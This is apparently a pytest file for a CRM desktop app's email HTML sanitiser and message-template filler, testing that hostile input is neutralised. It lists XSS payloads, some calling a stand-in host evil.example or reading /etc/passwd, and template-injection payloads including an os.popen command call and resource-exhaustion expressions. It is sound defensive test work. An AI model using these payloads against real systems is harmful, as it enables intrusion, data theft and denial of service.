"""What strangers and careless colleagues write: mails that would run or fetch, templates that would reach or swell."""

import re

import pytest

from crm_desktop.intake.original import TAGS, safe_html
from crm_desktop.messages.templates import SAMPLE, Places, TemplateFault, fill

MAILS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="https://evil.example/a.png?who=me">',
    '<img src="file:///etc/passwd">',
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="file:///C:/Windows/win.ini">x</a>',
    '<a href="\\\\evil.example\\share">x</a>',
    '<p style="background:url(https://evil.example/b.png)">x</p>',
    "<style>@import url(https://evil.example/c.css); p{background:url(x)}</style>",
    '<link rel="stylesheet" href="https://evil.example/c.css">',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="https://evil.example/d"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><p>x</p>',
    '<form action="https://evil.example/"><input name="password"><button>OK</button></form>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="file:///etc/passwd"></object><embed src="https://evil.example/e.swf">',
    '<body background="https://evil.example/f.png"><table background="//evil.example/g"><tr><td>x</td></tr></table>',
    '<video poster="https://evil.example/h.png" src="https://evil.example/i.mp4"></video>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--[if mso]><v:fill src='https://evil.example/j.png'/><![endif]-->",
    '<td width="1" bgcolor="url(https://evil.example/k)" colspan="2">x</td>',
]  # fmt: skip


@pytest.mark.parametrize("mail", MAILS)
def test_that_nothing_of_a_mail_runs_loads_links_or_asks(mail: str) -> None:
    shown = safe_html(f"<p>przed</p>{mail}<p>po</p>")
    assert shown.startswith("<p>przed</p>")
    for name, attributes in re.findall(r"<\s*([a-zA-Z][\w:-]*)([^>]*)>", shown):
        assert name.lower() in TAGS
        assert re.fullmatch(r'(\s+(colspan|rowspan)="[^"]*")*\s*/?', attributes), shown
    assert "<!--" not in shown


TEMPLATES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ number.__class__ }}",
    "{{ number['__class__'] }}",
    "{{ number|attr('__class__') }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os }}",
    "{{ self._TemplateReference__context }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(number) }}",
    "{{ '%1000000000d' % 1 }}",
    "{{ '%1000000000d'|format(1) }}",
    "{{ 'a' * 1000000000 }}",
    "{{ 10 ** 10 ** 9 }}",
    "{{ 'a'|center(1000000000) }}",
    "{{ 'a'.center(1000000000) }}",
    "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends 'x' %}",
    "{{ config }}",
]


@pytest.mark.parametrize("template", TEMPLATES)
def test_that_a_template_reaches_nothing_but_its_words_and_takes_no_time(template: str) -> None:
    with pytest.raises(TemplateFault):
        fill(template, SAMPLE)


def test_that_words_of_a_customer_are_no_template() -> None:
    places = Places(customer="{{ 7 * 7 }} {% for a in b %}")
    assert fill("Dzień dobry, {{ customer }}", places) == "Dzień dobry, {{ 7 * 7 }} {% for a in b %}"


def test_that_what_templates_are_for_still_works() -> None:
    told = "{% if tracking %}{{ tracking|upper }}{% else %}-{% endif %} {{ (carrier or 'kurier').lower() }}"
    assert fill(told, SAMPLE) == f"{SAMPLE.tracking.upper()} {SAMPLE.carrier.lower()}"
